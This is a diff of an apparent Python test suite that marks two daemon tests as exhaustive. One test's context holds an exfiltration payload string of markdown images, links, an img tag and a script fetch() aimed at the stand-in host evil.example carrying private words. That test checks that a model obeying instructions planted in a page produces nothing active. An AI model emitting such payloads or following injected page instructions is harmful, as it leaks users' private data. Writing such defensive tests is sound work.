@@ -147,6 +147,7 @@ async def test_what_shows_no_token_or_comes_from_elsewhere_runs_nothing(around: 
         assert reply.status_code == 413
 
 
+@pytest.mark.exhaustive
 async def test_a_published_client_of_openais_api_gets_models_an_answer_and_a_stream(
     around: Around,
 ):
@@ -280,6 +281,7 @@ EVIL = "https://evil.example/p?d=PRIVATE+WORDS"
 ACTIVE = f"![x]({EVIL}) [words]({EVIL}) <img src='{EVIL}'><script>fetch('{EVIL}')</script> {EVIL}"
 
 
+@pytest.mark.exhaustive
 async def test_a_model_that_obeys_a_page_gets_nothing_active_out_of_the_daemon(around: Around):
     """It writes pictures, tags and links into whatever it is asked for, as a page has told it."""
     around.allow("default")
